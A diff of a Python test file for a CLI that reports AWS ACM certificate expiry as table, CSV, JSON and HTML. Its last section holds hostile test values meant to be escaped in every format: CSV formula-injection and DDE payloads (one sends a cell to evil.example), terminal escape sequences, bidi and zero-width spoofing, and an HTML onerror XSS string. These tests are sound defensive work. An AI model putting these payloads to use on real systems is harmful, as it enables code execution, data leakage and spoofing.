@@ -18,7 +18,7 @@ from typing import Literal
 import pytest
 
 from acm_expiry.verdict import Compliance, days_left
-from acm_expiry_cli.report import CSV_FIELDS, FORMATS, VERDICTS, Report, Row, render
+from acm_expiry_cli.report import CSV_FIELDS, FORMATS, VERDICTS, Report, Row, printable, render
 
 NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
 WINDOW = 30
@@ -108,12 +108,14 @@ def test_the_fixture_covers_what_the_formats_must_handle() -> None:
 
 # table -----------------------------------------------------------------------------------------
 
+PROSE = {"NOTE"}  # wrapped at spaces; the other columns are names, wrapped after separators
+
 
 def table_cells(text: str) -> tuple[list[str], list[dict[str, str]]]:
-    """The table's headings and rows, cut at the spans of the dashes line under the headings.
+    """The narrow table's headings and rows, cut at the spans of the dashes line under the headings.
 
-    A line that starts with blanks continues the last column of the row above (the narrow table
-    wraps its NOTE column); its pieces are joined with single spaces.
+    A line whose first column is blank continues the row above: each column's piece is appended
+    to that column's value (names as they are, prose after a space), so wrapped cells come back whole.
     """
     lines = text.split("\n")
     spans = [match.span() for match in re.finditer(r"-+", lines[1])]
@@ -121,10 +123,13 @@ def table_cells(text: str) -> tuple[list[str], list[dict[str, str]]]:
     headings = [lines[0][start:end].strip() for start, end in cut]
     rows: list[dict[str, str]] = []
     for line in lines[2 : lines.index("")]:
-        if line.startswith(" ") and rows:
-            rows[-1][headings[-1]] += " " + line.strip()
+        pieces = [line[start:end].strip() for start, end in cut]
+        if pieces[0] or not rows:
+            rows.append(dict(zip(headings, pieces, strict=True)))
             continue
-        rows.append(dict(zip(headings, (line[start:end].strip() for start, end in cut), strict=True)))
+        for heading, piece in zip(headings, pieces, strict=True):
+            if piece:
+                rows[-1][heading] += (" " if heading in PROSE else "") + piece
     return headings, rows
 
 
@@ -138,11 +143,7 @@ def note_of(annotation: str) -> str:
     return " ".join(rest.split()) or "-"
 
 
-def clipped_from(cell: str, full: str) -> bool:
-    return cell == full or (cell.endswith("…") and full.startswith(cell[:-1]))
-
-
-def test_table_fits_120_columns_even_with_the_long_domain_and_annotation() -> None:
+def test_table_fits_120_columns_and_shows_every_domain_whole() -> None:
     text = render(REPORT, "table")
     lines = text.removesuffix("\n").split("\n")
     assert max(len(line) for line in lines) <= 120
@@ -157,11 +158,29 @@ def test_table_fits_120_columns_even_with_the_long_domain_and_annotation() -> No
         assert shown["EXPIRES"] == (source.expires.strftime("%Y-%m-%d") if source.expires else "-")
         assert shown["DAYS"] == ("-" if source.days_left is None else str(source.days_left))
         assert shown["VERDICT"] == source.verdict
-        assert len(shown["DOMAIN"]) <= 24 and clipped_from(shown["DOMAIN"], source.domain)
+        assert shown["DOMAIN"] == source.domain  # wrapped, never cut
         # Wrapped, never cut: every word of the note is there (a word longer than the column may be split).
         assert shown["NOTE"].replace(" ", "") == note_of(source.annotation).replace(" ", "")
-    long = next(shown for shown, source in zip(cells, REPORT.rows, strict=True) if source.domain == LONG_DOMAIN)
-    assert long["DOMAIN"].endswith("…")
+    assert "…" not in text
+
+
+def test_a_long_domain_wraps_after_its_dots() -> None:
+    text = render(REPORT, "table")
+    lines = text.split("\n")
+    start = lines[1].index("-", lines[1].index("  ", lines[1].index("  ") + 2))  # the DOMAIN column's dashes
+    width = len(lines[1][start:].split("  ")[0])
+    first = next(i for i, line in enumerate(lines) if line[start:].startswith("aaaa"))
+    pieces = [lines[first][start : start + width].strip()]
+    for line in lines[first + 1 :]:
+        if line[:start].strip():
+            break
+        pieces.append(line[start : start + width].strip())
+    assert "".join(pieces) == LONG_DOMAIN and width == 16  # two accounts and ap-southeast-2: the floor
+    # A line ends after a dot, unless a label longer than the column had to be cut where the line ends.
+    assert all(len(piece) <= width for piece in pieces)
+    assert all(piece.endswith(".") or len(piece) == width for piece in pieces[:-1])
+    wider = render(Report(WINDOW, NOW, tuple(r for r in REPORT.rows if r.domain == LONG_DOMAIN), "ACM"), "table")
+    assert wider.split("\n")[1].split("  ")[1] == "-" * 30  # alone, it gets DOMAIN_MAX
 
 
 def test_the_note_is_the_advice_the_other_columns_do_not_say() -> None:
@@ -169,19 +188,34 @@ def test_the_note_is_the_advice_the_other_columns_do_not_say() -> None:
         "Expires in 6 days (2026-12-03), within the 30-day window. ACM never renews imported certificates: "
         "re-import a renewed one to the same ARN."
     )
-    rows = (row(A1, US, "shop", 5.5, annotation=annotation, type="IMPORTED"),)
+    compliant = "Expires on 2027-03-28, outside the 30-day window."
+    rows = (
+        row(A1, US, "shop", 5.5, annotation=annotation, type="IMPORTED"),
+        row(A1, US, "calm", 120.5, annotation=compliant),
+    )
     text = render(Report(WINDOW, NOW, rows, "ACM"), "table")
-    (shown,) = table_cells(text)[1]
-    assert shown["NOTE"] == "ACM never renews imported certificates: re-import a renewed one to the same ARN."
+    shop, calm = table_cells(text)[1]
+    assert shop["NOTE"] == "ACM never renews imported certificates: re-import a renewed one to the same ARN."
+    assert calm["NOTE"] == "-"
     assert max(len(line) for line in text.split("\n")) <= 120
     assert len(text.split("\n")) > 5  # the note wraps onto lines of its own rather than being cut
 
 
-@pytest.mark.parametrize("width", [100, 80, 40])
+@pytest.mark.parametrize("width", [115, 106])  # 106: every floor, with 14-character regions
 def test_table_lines_fit_narrower_widths(width: int) -> None:
-    *table, blank, summary = render(REPORT, "table", width=width).removesuffix("\n").split("\n")
-    assert blank == "" and summary.startswith("22 certificate(s)")  # the summary is never clipped
+    *table, blank, summary = render(ONE_ACCOUNT, "table", width=width).removesuffix("\n").split("\n")
+    assert blank == "" and summary.startswith(f"{len(ONE_ACCOUNT.rows)} certificate(s)")
     assert max(len(line) for line in table) <= width
+
+
+@pytest.mark.parametrize("width", [80, 40, 1])
+def test_too_narrow_a_width_makes_longer_lines_rather_than_lose_anything(width: int) -> None:
+    text = render(REPORT, "table", width=width)
+    _, cells = table_cells(text)
+    assert [shown["DOMAIN"] for shown in cells] == [source.domain for source in REPORT.rows]
+    assert [shown["NOTE"].replace(" ", "") for shown in cells] == [
+        note_of(source.annotation).replace(" ", "") for source in REPORT.rows
+    ]
 
 
 def test_account_column_only_for_more_than_one_account() -> None:
@@ -198,30 +232,28 @@ def test_account_column_only_for_more_than_one_account() -> None:
     assert "account(s)" not in text
 
 
-def test_wide_table_shows_arns_and_whole_annotations() -> None:
+def test_wide_table_shows_arns_and_whole_annotations_within_200_columns() -> None:
     text = render(REPORT, "table", wide=True)
-    headings, cells = table_cells(text)
-    assert headings == [
-        "ACCOUNT",
-        "REGION",
-        "DOMAIN",
-        "TYPE",
-        "KEY",
-        "IN USE",
-        "EXPIRES",
-        "DAYS",
-        "VERDICT",
-        "ARN",
-        "ANNOTATION",
-    ]
-    for shown, source in zip(cells, REPORT.rows, strict=True):
-        assert shown["ARN"] == source.arn
-        assert shown["DOMAIN"] == source.domain
-        assert shown["ANNOTATION"] == source.annotation
-        assert shown["KEY"] == (source.key_algorithm or "-")
-        assert shown["IN USE"] == {True: "yes", False: "no", None: "-"}[source.in_use]
-    assert max(len(line) for line in text.split("\n")) > 120
-    assert all(line == line.rstrip() for line in text.split("\n"))
+    lines = text.removesuffix("\n").split("\n")
+    assert max(len(line) for line in lines) <= 200
+    assert all(line == line.rstrip() for line in lines)
+    assert lines[0].split() == ["ACCOUNT", "REGION", "DOMAIN", "TYPE", "KEY", "IN", "USE", "EXPIRES", "DAYS",
+                                "VERDICT", "ARN"]  # fmt: skip
+    indent = lines[0].index("DOMAIN")
+    body = lines[2 : lines.index("")]
+    starts = [i for i, line in enumerate(body) if line[:indent].strip()]
+    assert len(starts) == len(REPORT.rows)
+    for start, end, source in zip(starts, [*starts[1:], len(body)], REPORT.rows, strict=True):
+        first = body[start]
+        assert first.startswith(f"{source.account}  {source.region}")
+        assert first.endswith(f"  {source.arn}")  # whole, on the row's first line
+        assert f"  {source.key_algorithm or '-'}  " in first
+        assert f"  { ({True: 'yes', False: 'no', None: '-'}[source.in_use]) }  " in first
+        # The row's other lines: the rest of a long domain, then the whole annotation, from the DOMAIN column.
+        rest = body[start + 1 : end]
+        words = " ".join(line[indent:].strip() for line in rest)
+        assert words.endswith(" ".join(source.annotation.split()))
+        assert all(line.startswith(" " * indent) for line in rest)
 
 
 def test_table_summary_line() -> None:
@@ -311,14 +343,17 @@ def test_csv_round_trips_every_value() -> None:
     assert [r[-1] for r in records].count(LONG_ANNOTATION) == 1  # commas and quotes intact
 
 
-def test_csv_uses_crlf_line_ends_and_minimal_quoting() -> None:
+def test_csv_quotes_every_text_cell_and_leaves_days_left_a_bare_number() -> None:
     text = render(REPORT, "csv")
     assert text.endswith("\r\n") and text.count("\r\n") == 1 + len(REPORT.rows)
     assert "\n" not in text.replace("\r\n", "") and "\r" not in text.replace("\r\n", "")
-    assert text.startswith(",".join(CSV_FIELDS) + "\r\n")
+    assert text.startswith(",".join(f'"{field}"' for field in CSV_FIELDS) + "\r\n")
     assert f",{escape(SPECIAL_ANNOTATION, quote=False)}," not in text  # not escaped for HTML
     assert '"' + SPECIAL_ANNOTATION.replace('"', '""') + '"\r\n' in text
-    assert f",{NOW + timedelta(days=3):%Y-%m-%dT%H:%M:%SZ},3,NON_COMPLIANT,Expires in 3 days (three).\r\n" in text
+    assert f',"{NOW + timedelta(days=3):%Y-%m-%dT%H:%M:%SZ}",3,"NON_COMPLIANT","Expires in 3 days (three)."\r\n' in text
+    # An expired certificate's days left is a negative number a spreadsheet reads as one, not text.
+    assert ',-3,"NON_COMPLIANT","Expired 3 days ago, on 2026-11-24: replace it now."\r\n' in text
+    assert ',"","NOT_APPLICABLE",' in text  # no date: an empty cell
 
 
 # json ------------------------------------------------------------------------------------------
@@ -382,8 +417,14 @@ class Page(HTMLParser):
         self.rects: list[dict[str, str | None]] = []  # the bars: rects with data-count
         self.rect_titles: list[str] = []
         self.svg_texts: list[str] = []
-        self.rows: list[list[str]] = []  # each <tr>'s cells
+        self.rows: list[list[str]] = []  # each <tr>'s cells' text
+        self.row_attributes: list[dict[str, str | None]] = []
+        self.cells: list[list[dict[str, str | None]]] = []  # each <tr>'s cells' attributes
+        self.sections: list[tuple[dict[str, str | None], int]] = []  # section.account, and its first row
         self.heading = ""
+        self.title = ""
+        self.style = ""
+        self.script = ""
         self.text: list[str] = []
         self._open: list[str] = []
         self._cell: list[str] | None = None
@@ -392,7 +433,8 @@ class Page(HTMLParser):
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         attributes = dict(attrs)
         self.tags.append((tag, attributes))
-        self._open.append(tag)
+        if tag not in ("wbr", "meta", "line", "br"):  # void elements never close
+            self._open.append(tag)
         if tag == "rect" and "data-count" in attributes:
             self.rects.append(attributes)
             self._in_bar = True
@@ -400,12 +442,22 @@ class Page(HTMLParser):
             self.rect_titles.append("")
         elif tag == "tr":
             self.rows.append([])
+            self.cells.append([])
+            self.row_attributes.append(attributes)
         elif tag in ("td", "th"):
             self._cell = []
+            self.cells[-1].append(attributes)
+        elif tag == "section" and "account" in (attributes.get("class") or ""):
+            self.sections.append((attributes, len(self.rows)))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        self.handle_endtag(tag)
 
     def handle_endtag(self, tag: str) -> None:
-        if self._open and self._open[-1] == tag:
-            self._open.pop()
+        if tag in self._open:
+            while self._open.pop() != tag:
+                pass
         if tag == "rect":
             self._in_bar = False
         elif tag in ("td", "th") and self._cell is not None:
@@ -415,14 +467,28 @@ class Page(HTMLParser):
     def handle_data(self, data: str) -> None:
         self.text.append(data)
         where = self._open[-1] if self._open else ""
-        if self._cell is not None:
+        if where == "style":
+            self.style += data
+        elif where == "script":
+            self.script += data
+        elif self._cell is not None:
             self._cell.append(data)
         elif where == "title" and self._in_bar:
             self.rect_titles[-1] += data
-        elif where == "text" and "svg" in self._open:
+        elif where == "title" and "head" in self._open:
+            self.title += data
+        elif "text" in self._open and "svg" in self._open:
             self.svg_texts.append(data)
         elif "h1" in self._open:
             self.heading += data
+
+    def body_rows(self) -> list[tuple[dict[str, str | None], list[str], list[dict[str, str | None]]]]:
+        """The certificates' rows (not the headings'): attributes, cells' text, cells' attributes."""
+        return [
+            (attributes, text, cells)
+            for attributes, text, cells in zip(self.row_attributes, self.rows, self.cells, strict=True)
+            if "data-verdict" in attributes
+        ]
 
 
 def parse(text: str) -> Page:
@@ -432,39 +498,118 @@ def parse(text: str) -> Page:
     return page
 
 
+def css_block(style: str, prelude: str) -> str:
+    """The body of the first CSS block whose prelude is ``prelude`` (braces matched)."""
+    start = style.index(prelude + " {") + len(prelude) + 2
+    depth, end = 1, start
+    while depth:
+        depth += {"{": 1, "}": -1}.get(style[end], 0)
+        end += 1
+    return style[start : end - 1]
+
+
+def expired(r: Row) -> bool:
+    """Expired when scanned, worked out from the requirements."""
+    return r.verdict == NON_COMPLIANT and r.expires is not None and (r.expires <= NOW or (r.days_left or 0) < 1)
+
+
 def timeline_place(r: Row) -> int | str:
     """Where the HTML timeline should put a row, worked out from the requirements."""
     if r.verdict == NOT_APPLICABLE or r.expires is None:
         return "out"
-    offset = r.expires - NOW
-    if offset <= timedelta(0) or (r.days_left is not None and r.days_left < 1):
+    if expired(r):
         return "expired"
-    if offset >= timedelta(days=90):
+    if r.expires - NOW >= timedelta(days=90):
         return "later"
-    return int(offset.total_seconds() // (7 * 86400))
+    return int((r.expires - NOW).total_seconds() // (7 * 86400))
 
 
-def test_html_is_self_contained() -> None:
+def in_page_order(report: Report) -> list[Row]:
+    """The rows as the page lists them: by account (when several), each account's in the scan's order."""
+    return [r for account in sorted({r.account for r in report.rows}) for r in report.rows if r.account == account]
+
+
+HTML_COLUMNS = ["Domain", "Verdict", "Days", "Expires", "Note", "Type", "Key", "In use", "Region", "ARN"]
+
+
+def test_html_is_self_contained_and_its_script_fetches_nothing() -> None:
     text = render(REPORT, "html")
     page = parse(text)
     names = [tag for tag, _ in page.tags]
     assert text.startswith("<!DOCTYPE html>") and text.endswith("</html>\n")
-    assert "script" not in names and "link" not in names and "iframe" not in names and "img" not in names
-    assert "<script" not in text.lower()
-    assert names.count("svg") == 1 and names.count("style") == 1
-    for _, attributes in page.tags:
-        assert "src" not in attributes and "href" not in attributes
+    assert "link" not in names and "iframe" not in names and "img" not in names and "object" not in names
+    assert names.count("script") == 1 and names.count("svg") == 1 and names.count("style") == 1
+    for tag, attributes in page.tags:
+        assert "src" not in attributes and "href" not in attributes, tag
         assert not any(value and "http" in value for value in attributes.values())
-    assert "url(" not in text and "@import" not in text
-    assert REPORT.source in page.heading
-    assert "2026-11-27 12:00 UTC" in text
+    assert "url(" not in page.style and "@import" not in page.style
+    for word in ("fetch", "XMLHttpRequest", "import", "http", "src", "eval", "innerHTML", "location"):
+        assert word not in page.script
+    assert page.script.count("</") == 0  # nothing in it can close the script element early
+
+
+def test_html_title_names_the_scope() -> None:
+    assert parse(render(REPORT, "html")).heading == f"ACM certificate expiry: 2 accounts in {AP}, {EU}, {US}"
+    one = parse(render(ONE_ACCOUNT, "html"))
+    assert one.heading == f"ACM certificate expiry: account {A1} in {AP}, {EU}, {US}"
+    assert one.title == f"{one.heading} (2026-11-27 12:00 UTC)"
+    regions = ("us-east-2", "us-west-2", "eu-central-1", "eu-west-3")
+    assert parse(render(Report(30, NOW, ONE_ACCOUNT.rows[:1], "ACM", regions=regions), "html")).heading == (
+        f"ACM certificate expiry: account {A1} in 5 regions"
+    )
+    assert parse(render(Report(30, NOW, (), "ACM", regions=(US,)), "html")).heading == (
+        f"ACM certificate expiry: no certificates in {US}"
+    )
+    words = " ".join("".join(parse(render(REPORT, "html")).text).split())
+    assert f"From {REPORT.source}; scanned 2026-11-27 12:00 UTC; 30-day window (daysToExpiration)." in words
+
+
+def test_html_groups_an_organization_by_account_each_with_its_summary() -> None:
+    page = parse(render(REPORT, "html"))
+    assert [attributes["data-account"] for attributes, _ in page.sections] == [A1, A2]
+    bounds = [first for _, first in page.sections] + [len(page.rows)]
+    words = " ".join("".join(page.text).split())
+    for (attributes, first), end in zip(page.sections, bounds[1:], strict=True):
+        account = attributes["data-account"]
+        mine = [r for r in REPORT.rows if r.account == account]
+        header, *rows = page.rows[first:end]
+        assert header == HTML_COLUMNS  # no Account column: the section says whose
+        assert [cells[0] for cells in rows] == [r.domain for r in mine]  # in the scan's order
+        counts = Counter(r.verdict for r in mine)
+        regions = ", ".join(sorted({r.region for r in mine}))
+        assert (
+            f"Account {account} {len(mine)} certificate(s) in {regions}: {counts[COMPLIANT]} COMPLIANT, "
+            f"{counts[NON_COMPLIANT]} NON_COMPLIANT, {counts[NOT_APPLICABLE]} NOT_APPLICABLE "
+            f"({sum(1 for r in mine if expired(r))} expired)"
+        ) in words
+    one = parse(render(ONE_ACCOUNT, "html"))
+    assert one.sections == [] and [tag for tag, _ in one.tags].count("table") == 1
+
+
+def test_html_marks_expired_rows_in_words_and_colour() -> None:
+    page = parse(render(REPORT, "html"))
+    rows = page.body_rows()
+    assert len(rows) == len(REPORT.rows)
+    marked = [source for (attributes, _, _), source in zip(rows, in_page_order(REPORT), strict=True)
+              if attributes.get("class") == "expired"]  # fmt: skip
+    assert marked == [r for r in in_page_order(REPORT) if expired(r)] and len(marked) == 2
+    for (attributes, text, _), source in zip(rows, in_page_order(REPORT), strict=True):
+        assert attributes["data-verdict"] == source.verdict
+        verdict = text[HTML_COLUMNS.index("Verdict")]
+        assert verdict == (f"{source.verdict} EXPIRED" if expired(source) else source.verdict)
+    assert "background" in css_block(page.style, "tr.expired td")
+    assert "print-color-adjust: exact" in css_block(page.style, "@media print")
+    (bar,) = [rect for rect in page.rects if rect.get("data-bar") == "expired"]
+    assert bar["data-count"] == "2" and bar["fill"] not in {rect["fill"] for rect in page.rects if rect is not bar}
+    assert "expired" in page.svg_texts  # the bar's label
 
 
 def test_html_timeline_counts_each_week_by_verdict() -> None:
     page = parse(render(REPORT, "html"))
     expected = Counter((place, r.verdict) for r in REPORT.rows if isinstance(place := timeline_place(r), int))
     shown = Counter[tuple[int, str]]()
-    for rect in page.rects:
+    weeks = [rect for rect in page.rects if "data-week" in rect]
+    for rect in weeks:
         key = (int(rect["data-week"] or ""), rect["data-verdict"] or "")
         assert key not in shown, "one rect per (week, verdict)"
         shown[key] = int(rect["data-count"] or "")
@@ -476,60 +621,184 @@ def test_html_timeline_counts_each_week_by_verdict() -> None:
     within_90_days = [r for r in REPORT.rows if isinstance(timeline_place(r), int)]
     assert sum(shown.values()) == len(within_90_days) == 14
     assert shown[(12, COMPLIANT)] == 2 and shown[(0, NON_COMPLIANT)] == 3 and shown[(4, NON_COMPLIANT)] == 1
-    fills = {rect["data-verdict"]: rect["fill"] for rect in page.rects}
+    fills = {rect["data-verdict"]: rect["fill"] for rect in weeks}
     assert len(set(fills.values())) == 2
     assert len(page.rect_titles) == len(page.rects)
-    for rect, title in zip(page.rects, page.rect_titles, strict=True):
+    for rect, title in zip(weeks, page.rect_titles[1:], strict=True):
         assert title.startswith(f"{rect['data-count']} {rect['data-verdict']}: expiring from ")
 
 
-def test_html_timeline_axis_and_what_it_leaves_out() -> None:
+def test_html_timeline_axis_window_edge_and_what_it_leaves_out() -> None:
     text = render(REPORT, "html")
     page = parse(text)
-    dates = [label for label in page.svg_texts if re.fullmatch(r"\d{4}-\d{2}-\d{2}", label)]
-    assert dates == [(NOW + timedelta(days=7 * week)).strftime("%Y-%m-%d") for week in range(13)]
-    assert "COMPLIANT" in page.svg_texts and "NON_COMPLIANT" in page.svg_texts  # the legend
+    labels = [attributes["data-date"] for tag, attributes in page.tags if tag == "text" and "data-date" in attributes]
+    assert labels == [(NOW + timedelta(days=7 * week)).strftime("%Y-%m-%d") for week in range(13)]
+    assert "Nov 27" in page.svg_texts and "Feb 19" in page.svg_texts  # 2026-11-27 + 12 weeks
+    assert {"expired", "COMPLIANT", "NON_COMPLIANT"} <= set(page.svg_texts)  # the legend
+    # The window's edge: a line where day 30 lies, labelled with the word "window".
+    (edge,) = [a for tag, a in page.tags if tag == "line" and a.get("class") == "window-edge"]
+    (band,) = [a for tag, a in page.tags if tag == "rect" and a.get("class") == "window-band"]
+    day = (float(band["width"] or "") / 30) if band["data-window"] == "30" else 0
+    assert float(edge["x1"] or "") == pytest.approx(float(band["x"] or "") + 30 * day)
+    assert "30-day window" in page.svg_texts
     places = Counter(timeline_place(r) for r in REPORT.rows)
     words = " ".join("".join(page.text).split())
-    assert f"expired: {places['expired']}" in words and places["expired"] == 2
     assert f"{places['later']} expire later than 90 days" in words and places["later"] == 3
+    assert f"{places['expired']} expired" in words and places["expired"] == 2
     for verdict, count in Counter(r.verdict for r in REPORT.rows).items():
         assert f"{count} {verdict}" in words
-    assert "30-day window" in words
+    # A window beyond the chart still says where its edge is.
+    wide = parse(render(Report(120, NOW, REPORT.rows, "ACM"), "html"))
+    assert not [a for tag, a in wide.tags if tag == "line" and a.get("class") == "window-edge"]
+    assert "120-day window: its edge lies beyond this chart \u2192" in wide.svg_texts
+
+
+def test_html_cells_keep_dates_regions_and_arns_whole() -> None:
+    page = parse(render(REPORT, "html"))
+    for (_, text, cells), source in zip(page.body_rows(), in_page_order(REPORT), strict=True):
+        by_heading = dict(zip(HTML_COLUMNS, zip(text, cells, strict=True), strict=True))
+        for heading in ("Expires", "Type", "Key", "In use", "Region"):
+            assert by_heading[heading][1]["class"] == "nowrap"
+        assert by_heading["Days"][1]["class"] == "num" and by_heading["Verdict"][1]["class"] == "verdict"
+        assert by_heading["Expires"][0] == (source.expires.strftime("%Y-%m-%d") if source.expires else "-")
+        # The ARN: its id's first 8 characters shown, the whole ARN in a hidden span (copied along) and the tooltip.
+        arn, attributes = by_heading["ARN"]
+        identifier = source.arn.rsplit("/", 1)[1]
+        assert arn == identifier[:8] + ("…" if len(identifier) > 8 else "") + source.arn
+        assert attributes["title"] == source.arn and attributes["data-sort"] == source.arn
+        assert by_heading["Note"][1]["title"] == source.annotation
+    style = parse(render(REPORT, "html")).style
+    assert "white-space: nowrap" in css_block(style, ".nowrap, time, td.num, td.verdict")
+    assert "user-select: none" in css_block(style, "td.arn .short")
+    assert "clip-path" in css_block(style, "td.arn .full")
+    # A domain may break only after its dots (<wbr>), and running text keeps dates and regions whole.
+    text = render(REPORT, "html")
+    assert "a" * 63 + ".<wbr>" + "b" * 63 + ".<wbr>" in text
+    assert '<span class="nowrap">2026-11-24</span>' in text  # in "Expired 3 days ago, on 2026-11-24"
+
+
+def test_html_print_and_phone_styles() -> None:
+    style = parse(render(REPORT, "html")).style
+    assert "size: landscape" in css_block(style, "@page")  # the paper (A4, Letter) is the printer's
+    printed = css_block(style, "@media print")
+    assert "table.certs tr { break-inside: avoid; }" in printed  # rows kept whole
+    assert "table.certs thead { display: table-header-group; }" in printed  # headings on every page
+    assert ".controls { display: none; }" in printed
+    assert "h2, h3, .account-summary { break-after: avoid; }" in printed
+    phone = css_block(style, "@media (max-width: 480px)")
+    assert "table.certs, table.certs tbody, table.certs tr, table.certs td { display: block; width: auto; }" in phone
+    assert "table.certs thead { display: none; }" in phone
+    assert "content: attr(data-label)" in phone  # each value says what it is
+    assert HTML_COLUMNS[:2] == ["Domain", "Verdict"]  # on a phone, the verdict comes right under the domain
 
 
 def test_html_table_has_every_row_and_every_value_escaped() -> None:
     text = render(REPORT, "html")
     page = parse(text)
-    header, *body = page.rows
-    assert header == [
-        "Account",
-        "Region",
-        "Domain",
-        "Type",
-        "Key",
-        "In use",
-        "Expires",
-        "Days",
-        "Verdict",
-        "ARN",
-        "Annotation",
-    ]
-    assert [tag for tag, _ in page.tags].count("tr") == 1 + len(REPORT.rows)
-    for cells, source in zip(body, REPORT.rows, strict=True):
-        assert cells[0:3] == [source.account, source.region, source.domain]
-        assert cells[8:] == [source.verdict, source.arn, source.annotation]
-    assert escape(SPECIAL_DOMAIN) in text and SPECIAL_DOMAIN not in text
+    assert all(row[0] == "Domain" for row, a in zip(page.rows, page.row_attributes, strict=True)
+               if "data-verdict" not in a)  # fmt: skip
+    rows = page.body_rows()
+    assert len(rows) == len(REPORT.rows)
+    for (_, cells, _), source in zip(rows, in_page_order(REPORT), strict=True):
+        assert cells[0] == source.domain
+        assert cells[HTML_COLUMNS.index("Region")] == source.region
+        assert cells[HTML_COLUMNS.index("Note")] == note_of(source.annotation)
+    assert escape(SPECIAL_DOMAIN).replace(".", ".<wbr>") in text and SPECIAL_DOMAIN not in text
     assert escape(SPECIAL_ANNOTATION) in text and SPECIAL_ANNOTATION not in text
     assert "&lt;script&gt;" in text and "&amp;" in text and "&quot;" in text and "&#x27;" in text
-    assert LONG_DOMAIN in text and escape(LONG_ANNOTATION) in text
 
 
 def test_html_of_an_empty_report() -> None:
     page = parse(render(Report(30, NOW, (), "Config aggregator <org>"), "html"))
-    assert page.rects == [] and len(page.rows) == 1
-    assert "No certificate expires in the next 90 days" in page.svg_texts
-    assert page.heading == "ACM certificate expiry: Config aggregator <org>"
+    assert page.rects == [] and page.body_rows() == []
+    assert "No certificate expired or expiring in the next 90 days" in page.svg_texts
+    assert page.heading == "ACM certificate expiry: no certificates"
+    assert "From Config aggregator <org>;" in "".join(page.text)
+
+
+# hostile names, every format -------------------------------------------------------------------
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "spaced": "  =1+1",
+    "osc8": "\x1b]8;;http://evil.example/\x1b\\ok.example.com",  # a terminal hyperlink left open
+    "csi": "\x1b[2J\x1b[31mred.example.com",
+    "cr": "good.example.com\rEVIL",
+    "nul": "nul\x00.example.com",
+    "bidi": "\u202emoc.elpmaxe",
+    "zero-width": "pay\u200bpal.example.com",
+    "separator": "line\u2028separator.example.com",
+    "html": "<img src=x onerror=alert(1)>.example.com",
+    "tab": "\tcmd.example.com",
+}
+
+
+def hostile_report() -> Report:
+    rows = tuple(
+        row(A1 if index % 2 else A2, US, name, 3 + index, domain=domain, annotation=f"Exempt by tag t: {domain}")
+        for index, (name, domain) in enumerate(HOSTILE.items())
+    )
+    return Report(WINDOW, NOW, rows, "Config aggregator \x1b[31morg")
+
+
+def visible_only(text: str, allowed: str = "\n") -> None:
+    """No character a terminal or viewer acts on, but line ends."""
+    bad = [hex(ord(char)) for char in text if not (char.isprintable() or char == " " or char in allowed)]
+    assert bad == []
+
+
+def test_hostile_names_in_the_table_are_escaped_visibly() -> None:
+    for wide in (False, True):
+        text = render(hostile_report(), "table", wide=wide)
+        visible_only(text)
+        assert "\\x1b" in text and "\\u202e" in text and "\\x00" in text and "\\x09" in text
+    _, cells = table_cells(render(hostile_report(), "table"))
+    domains = [shown["DOMAIN"] for shown in cells]
+    assert domains == [
+        " ".join(printable(domain).split()) for domain in HOSTILE.values()
+    ]  # whole, escaped: \r, \x00, \u202e, \u200b, \u2028, \t written out
+    assert "good.example.com\\x0dEVIL" in domains and "\\x09cmd.example.com" in domains
+    assert "\\u202emoc.elpmaxe" in domains
+    assert "\\x1b]8;;http://evil.example/\\x1b\\ok.example.com" in domains
+
+
+def test_hostile_names_in_csv_are_text_a_spreadsheet_does_not_run() -> None:
+    text = render(hostile_report(), "csv")
+    visible_only(text.replace("\r\n", "\n"))
+    records = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    for record, domain in zip(records, HOSTILE.values(), strict=True):
+        cell = record[CSV_FIELDS.index("domain")]
+        assert cell.removeprefix("'") == printable(domain)
+        runs = printable(domain).lstrip(" ")[:1] in "=+-@"
+        assert cell.startswith("'") == runs  # the quote only where a spreadsheet would run the cell
+        assert record[CSV_FIELDS.index("annotation")] == printable(f"Exempt by tag t: {domain}")
+        assert int(record[CSV_FIELDS.index("days_left")]) > 0
+    assert [r[CSV_FIELDS.index("domain")][:2] for r in records[:5]] == ["'=", "'+", "'-", "'@", "' "]
+    for cell in (cell for record in records for cell in record):
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\0") and cell.lstrip(" ")[:1] not in ("=", "+", "@")
+
+
+def test_hostile_names_in_json_keep_their_exact_value_escaped_by_json() -> None:
+    text = render(hostile_report(), "json")
+    assert text.isascii()
+    visible_only(text)
+    document = json.loads(text)
+    assert [shown["domain"] for shown in document["rows"]] == list(HOSTILE.values())
+    assert document["source"] == "Config aggregator \x1b[31morg"
+
+
+def test_hostile_names_in_html_are_escaped_text() -> None:
+    text = render(hostile_report(), "html")
+    visible_only(text)
+    page = parse(text)
+    assert [tag for tag, _ in page.tags].count("img") == 0 and [tag for tag, _ in page.tags].count("script") == 1
+    domains = [printable(r.domain) for r in in_page_order(hostile_report())]
+    assert [cells[0] for _, cells, _ in page.body_rows()] == domains
+    assert "From Config aggregator \\x1b[31morg;" in "".join(page.text)
+    assert "\u202e" not in text and "\\u202emoc" in text
 
 
 # every format ----------------------------------------------------------------------------------
